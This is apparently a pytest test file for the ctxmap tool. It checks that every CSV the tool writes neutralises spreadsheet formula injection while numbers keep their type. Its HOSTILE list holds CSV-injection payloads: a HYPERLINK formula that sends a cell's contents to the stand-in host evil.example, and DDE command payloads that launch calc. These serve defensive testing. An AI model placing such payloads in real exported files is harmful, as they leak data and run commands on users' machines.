"""CSV injection (OWASP): every CSV ctxmap writes neutralises formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from ctxmap.cli import main
from ctxmap.text import neutralise_formulas, to_safe_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parents[1]
LAT, LON = 52.6300, 1.2930


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _safe(cell: str) -> bool:
    """A cell a spreadsheet will not run: it does not start with a formula character."""
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_neutralise_formulas_prefixes_text_and_keeps_numbers() -> None:
    frame = pd.DataFrame({
        "name": [*HOSTILE, "Library", None],
        "delta": [-5, -1, 0, 3, -2, 7, -9, 1],           # a negative number column
        "ratio": [-0.5, 1.0, np.nan, 2.0, -3.0, 0.1, 0.0, 1.5],
        "mixed": ["-3", -3, "=1", 1.5, "ok", None, "@x", "a"],
        "kind": pd.Categorical(["=a", "b", "b", "b", "b", "b", "b", "+c"]),
    })
    out = neutralise_formulas(frame)
    assert out["name"].tolist()[:6] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert out["name"].iloc[6] == "Library" and pd.isna(out["name"].iloc[7])
    assert out["delta"].dtype == frame["delta"].dtype and out["delta"].tolist() == [
        -5, -1, 0, 3, -2, 7, -9, 1]
    assert out["ratio"].dtype == np.float64
    assert out["mixed"].tolist()[:3] == ["'-3", -3, "'=1"]  # text prefixed, numbers kept
    assert out["kind"].tolist() == ["'=a", "b", "b", "b", "b", "b", "b", "'+c"]
    assert frame["name"].iloc[0] == HOSTILE[0]  # the input is not changed
    back = pd.read_csv(io.StringIO(str(to_safe_csv(frame))))
    assert back["delta"].dtype.kind == "i" and back["delta"].min() == -9
    assert back["ratio"].dtype.kind == "f"
    assert all(_safe(str(v)) for v in back["name"].dropna())
    assert len(back) == len(frame)  # a carriage return in a cell does not split its row


def test_column_names_are_neutralised_too() -> None:
    text = str(to_safe_csv(pd.DataFrame({"=x": [1], "ok": [2]})))
    assert text.splitlines()[0] == "'=x,ok"


def test_every_csv_writer_uses_the_one_helper() -> None:
    """No module or page writes CSV itself: ``.to_csv(`` only in ctxmap/text.py."""
    offenders = []
    for path in [*ROOT.joinpath("ctxmap").rglob("*.py"), *ROOT.joinpath("pages").glob("*.py"),
                 ROOT / "app.py"]:
        if path.name == "text.py" and path.parent.name == "ctxmap":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", line):
                offenders.append(f"{path.relative_to(ROOT)}:{n}")
    assert not offenders, offenders


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def hostile_places(tmp_path: Path) -> Path:
    p = tmp_path / "places.csv"
    lines = ["id,name,category,opening_hours,layer,latitude,longitude"]
    for k, name in enumerate(HOSTILE[:4]):
        lines.append(f"p{k},{_quoted(name)},library,24/7,safe_places,{LAT + 0.001 * k},{LON}")
    lines.append(f"=home,{_quoted(HOSTILE[0])},children's home,,homes,{LAT},{LON - 0.002}")
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return p


def test_nearest_csv(hostile_places: Path, tmp_path: Path) -> None:
    out = tmp_path / "n.csv"
    assert main(["nearest", "--lat", str(LAT), "--lon", str(LON), "--k", "4", "--places",
                 str(hostile_places), "--open-at", "2019-01-12 21:00", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    rows = _rows(text)
    assert sorted(r["name"] for r in rows) == sorted("'" + h for h in HOSTILE[:4])
    assert all(_safe(v) for r in rows for v in r.values())
    back = pd.read_csv(out)
    assert back["straight_m"].dtype.kind == "f"  # numbers stay numbers


def test_coverage_csv(hostile_places: Path, tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    assert main(["coverage", "--places", str(hostile_places), "--minutes", "15",
                 "--open-at", "2019-01-12 21:00", "--out", str(out)]) == 0
    rows = _rows(out.read_text(encoding="utf-8"))
    assert rows and rows[0]["home_id"] == "'=home"
    assert all(_safe(v) for r in rows for v in r.values())


def test_concern_csv(tmp_path: Path) -> None:
    rng = np.random.default_rng(7)
    inc = tmp_path / "street.csv"
    header = ("Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,"
              "LSOA code,LSOA name,Crime type,Last outcome category,Context")
    rows = [header]
    for k in range(80):
        rows.append(f"{k:064x},2019-01,Norfolk,Norfolk,{LON + rng.normal(0, 0.003):.6f},"
                    f"{LAT + rng.normal(0, 0.003):.6f},On or near X,E01026791,Norwich 005A,"
                    "Drugs,,")
    inc.write_text("\n".join(rows) + "\n", encoding="utf-8")
    places = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [LON + i * 0.002, LAT]},
         "properties": {"id": f"=p{i}", "name": name, "category": "@library"}}
        for i, name in enumerate(HOSTILE[:4])]}
    pl = tmp_path / "places.geojson"
    pl.write_text(json.dumps(places), encoding="utf-8")
    out = tmp_path / "rank.csv"
    outline = tmp_path / "outline.geojson"  # files alone need a study area
    outline.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"id": "A", "name": "Box"}, "geometry": {
            "type": "Polygon", "coordinates": [[[LON - 0.05, LAT - 0.03], [LON + 0.05, LAT - 0.03],
                                                [LON + 0.05, LAT + 0.03], [LON - 0.05, LAT + 0.03],
                                                [LON - 0.05, LAT - 0.03]]]}}]}), encoding="utf-8")
    assert main(["concern", "--incidents", str(inc), "--places", str(pl), "--types", "all",
                 "--as", "safe_places", "--out", str(out), "--study-area", str(outline)]) == 0
    got = _rows(out.read_text(encoding="utf-8"))
    assert sorted(r["name"] for r in got) == sorted("'" + h for h in HOSTILE[:4])
    assert all(r["place_id"].startswith("'=p") and r["category"] == "'@library" for r in got)
    assert all(_safe(v) for r in got for v in r.values())
    back = pd.read_csv(out)
    assert back["incidents"].dtype.kind == "i" and back["rate_ratio"].dtype.kind == "f"


def test_contexts_csv(sample_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from ctxmap.cases.repository import load_bundle, update_record
    from ctxmap.cases.sample_context import SAMPLE_CONTEXT_ID
    from ctxmap.store.opening import open_store

    store = open_store(str(sample_copy), create=False)
    ctx = load_bundle(store, SAMPLE_CONTEXT_ID).context
    update_record(store, "context", ctx.id, ctx.version, "w", name=HOSTILE[0],
                  lead_agency=HOSTILE[1])
    assert main(["contexts", "--store", str(sample_copy)]) == 0
    rows = _rows(capsys.readouterr().out)
    mine = next(r for r in rows if r["id"] == SAMPLE_CONTEXT_ID)
    assert mine["name"] == "'" + HOSTILE[0] and mine["lead_agency"] == "'" + HOSTILE[1]
    assert all(_safe(v) for r in rows for v in r.values())


def test_audit_csv_uses_the_helper() -> None:
    from ctxmap.privacy.audit import log_csv

    log = pd.DataFrame({"id": [1, 2], "what": [HOSTILE[2], "ok"], "rows": [-3, 4]})
    rows = _rows(log_csv(log))
    assert rows[0]["what"] == "'" + HOSTILE[2] and rows[0]["rows"] == "-3"
